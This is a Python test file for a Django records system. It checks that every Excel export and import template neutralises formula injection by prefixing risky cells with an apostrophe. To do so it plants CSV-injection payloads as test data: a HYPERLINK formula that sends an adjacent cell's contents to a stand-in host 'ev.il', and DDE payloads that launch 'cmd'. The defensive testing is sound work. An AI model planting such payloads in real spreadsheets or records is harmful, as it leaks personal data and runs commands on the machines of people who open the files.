"""No workbook the project produces holds a live formula (issue 15, finding 5: formula injection).

Text a user or an administrator typed (a category, a station's or a person's name, an address) ends
up in cells; a cell whose value is `=HYPERLINK(…)` runs when the file is opened, next to full ID
numbers in the full export. The walk below plants such text in every kind of record a workbook
shows, fetches every workbook (each .xlsx route of the URL conf, and the two commands that write
one) and opens each sheet, hidden ones included.
"""

import io
from datetime import date

import pytest
from django.core.management import call_command
from django.test import override_settings
from django.urls import NoReverseMatch, reverse
from openpyxl import Workbook, load_workbook

from rongjia.core.exports import safe_cell
from rongjia.core.models import Region
from rongjia.people.importing.columns import HEADERS
from rongjia.people.models import Category, ImportRow
from tests.factories import STREET_CODE, VILLAGE_CODE, person_at, unit_at
from tests.people.ledgers import check, good_row
from tests.security.probes import STRING_KWARGS, routes

# What a spreadsheet runs as a formula (OWASP "CSV injection"); a cell beginning with "'" is neutralised.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
POISON = '=HYPERLINK("http://ev.il/?"&B2,"查看")'  # within the 40 characters of a name


def formula_cells(content: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would run: a formula cell, or text beginning like one."""
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                if cell.data_type == "f" or text:
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


@pytest.fixture
def planted(cast):
    """Formula text in reference data, a station, a region and a dossier, as legacy data could hold it
    (written past the services, which now refuse such names)."""
    Category.objects.create(name=POISON, position=99)
    person = person_at(cast.county_director, name="王五", categories=(POISON,))
    person.name, person.address_detail = "+cmd|' /C calc'!A0", "-1+1号"
    person.save()  # audited: the audit log's export shows these values too
    unit = unit_at(VILLAGE_CODE)
    unit.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    unit.save()
    Region.objects.filter(code=STREET_CODE).update(name="=1+1")
    _employment_with_formulas(cast, person)
    return person


def _employment_with_formulas(cast, person) -> None:
    """The poisoned dossier as a job seeker who started a business, and an employer whose name begins like a formula
    (the employment exports: seekers, employers, postings, businesses, the ledger)."""
    from rongjia.employment import services_business, services_postings, services_seekers
    from rongjia.employment.models import Employer, Sector

    sector = Sector.objects.first()
    services_seekers.seeker_create(actor=cast.county_director, person=person, wanted_work="-1+1")
    employer = services_postings.employer_create(actor=cast.county_director, name="拥军企业", sector=sector,
                                                 place=Region.objects.get(code=VILLAGE_CODE), contact_name="王经理",
                                                 contact_phone="13900001111")
    Employer.objects.filter(pk=employer.pk).update(name=POISON)
    services_business.business_create(actor=cast.county_director, person=person, name="+创业项目", sector=sector,
                                      registered_on=date(2025, 1, 1))


def _workbooks(cast, client_for) -> dict[str, bytes]:
    director, today = client_for(cast.county_director), date.today().isoformat()
    _petition_and_feedback_with_formulas(cast)
    return {
        "audit:export": client_for(cast.auditor).get(reverse("audit:export")),
        "insights:dashboard_export": director.get(reverse("insights:dashboard_export")),
        "mailbox:inbox_export": director.get(reverse("mailbox:inbox_export")),
        "network:network_stats_export": director.get(reverse("network:network_stats_export") + "?region=320115"),
        "network:station_export": director.get(reverse("network:station_export")),
        "network:training_export": director.get(reverse("network:training_export")),
        "people:as_of_export": director.get(reverse("people:as_of_export") + f"?day={today}"),
        "people:export_full": director.post(reverse("people:export_full"), {"reason": "核对", "confirm": "on"}),
        "people:import_template": client_for(cast.village_worker).get(reverse("people:import_template")),
        "people:person_export": director.get(reverse("people:person_export")),
        "petitions:backlog_export": director.get(reverse("petitions:backlog_export")),
        "petitions:petition_export": director.get(reverse("petitions:petition_export")),
        "visits:visit_export": director.get(reverse("visits:visit_export")),
        "visits:people_export": director.get(reverse("visits:people_export") + "?status=never"),
        **{name: director.get(reverse(name)) for name in (
            "employment:seekers_export", "employment:employers_export", "employment:postings_export",
            "employment:businesses_export", "employment:ledger_export")},
    }


def _petition_and_feedback_with_formulas(cast) -> None:
    """A petitioner's name and a feedback's words as a sender typed them; the poisoned village unit holds both, and
    the petition is a 积案 (overdue) with a leader whose name begins like a formula."""
    from rongjia.petitions.backlog.services import backlog_assign
    from rongjia.petitions.mailbox.services import feedback_submit
    from rongjia.petitions.models import Petition
    from rongjia.petitions.services import petition_register

    petition = petition_register(actor=cast.county_director, unit=unit_at(VILLAGE_CODE), channel="letter",
                                 type="claim", category="housing", subject="安置待遇",
                                 petitioners=[{"name": POISON}])
    Petition.objects.filter(pk=petition.pk).update(subject="-1+1", due_on=date(2000, 1, 1))
    backlog_assign(actor=cast.county_director, petition=petition, leader_name="+领导", plan="=1+1")
    feedback_submit(about=unit_at(VILLAGE_CODE), topic="attitude", rating="fairly", content=POISON,
                    sender_name="@张三")


def test_every_workbook_holds_no_formula(planted, cast, client_for, tmp_path):
    responses = _workbooks(cast, client_for)
    produced = {name for name, kwargs in routes() if not kwargs and reverse(name).endswith(".xlsx")}
    assert produced == set(responses), "a workbook route this walk does not fetch: add it above"
    books = {}
    for name, response in responses.items():
        assert response.status_code == 200, name
        books[name] = response.content
    call_command("export_people", str(tmp_path / "masked.xlsx"), "--as", "county_director", stdout=io.StringIO())
    call_command("export_people", str(tmp_path / "full.xlsx"), "--as", "county_director", "--full",
                 stdout=io.StringIO())
    call_command("import_people", "--template", str(tmp_path / "template.xlsx"), stdout=io.StringIO())
    for file in ("masked", "full", "template"):
        books[f"command {file}"] = (tmp_path / f"{file}.xlsx").read_bytes()
    found = {name: cells for name, content in books.items() if (cells := formula_cells(content))}
    assert not found, found
    # the walk read the planted text, neutralised, where it belongs
    full = load_workbook(io.BytesIO(books["people:export_full"])).active
    assert "'" + POISON in [cell.value for row in full.iter_rows() for cell in row]
    lists = load_workbook(io.BytesIO(books["people:import_template"]))["代码表"]
    assert "'" + POISON in [cell.value for cell in lists["D"]]


def workbook_routes_of_a_record() -> set[str]:
    """The .xlsx routes that name a record (their kwargs filled with placeholders): fetched one by one below."""
    found = set()
    for name, kwargs in routes():
        if not kwargs:
            continue
        try:
            url = reverse(name, kwargs={kwarg: STRING_KWARGS.get(kwarg, 1) for kwarg in kwargs})
        except NoReverseMatch:
            continue
        if url.endswith(".xlsx"):
            found.add(name)
    return found


def test_the_held_rows_come_back_without_a_formula(cast, client_for, tmp_path):
    """The held rows go back to the uploader as their own cells (issue 17), and a ledger's cells are what anyone
    typed: text that a spreadsheet would run is written behind a ', as in every other workbook."""
    assert workbook_routes_of_a_record() == {"people:import_held_workbook"}, "a workbook route not walked: add it"
    sheet = Workbook()
    sheet.active.append(HEADERS)
    cells = {"姓名": "+cmd|' /C calc'!A0", "联系电话": "@SUM(1+1)", "详细地址": POISON}
    sheet.active.append([good_row(1, **cells).get(header) for header in HEADERS])
    for cell in sheet.active[2]:
        cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type  # typed text, not formulas
    buffer = io.BytesIO()
    sheet.save(buffer)
    with override_settings(MEDIA_ROOT=tmp_path):
        job = check(cast.village_worker, buffer.getvalue(), "ledger.xlsx")
        assert job.rows.filter(kind=ImportRow.Kind.HELD).count() == 1
        response = client_for(cast.village_worker).get(reverse("people:import_held_workbook", args=[job.pk]))
    assert response.status_code == 200
    assert not formula_cells(response.content)
    written = [cell.value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
    assert all("'" + value in written for value in cells.values()), written


def test_the_walk_sees_a_formula_when_there_is_one():
    workbook = Workbook()
    workbook.active.append(["=1+1", "'=1+1", "ok"])
    hidden = workbook.create_sheet("hidden")
    hidden.sheet_state = "hidden"
    hidden.append(["@SUM(A1)"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert len(formula_cells(buffer.getvalue())) == 2


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+86 139", "'+86 139"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("古泉村", "古泉村"), ("'=1", "'=1"), (12, 12), (-3.5, -3.5), (None, None),
])
def test_safe_cell_neutralises_formula_text_only(value, written):
    assert safe_cell(value) == written

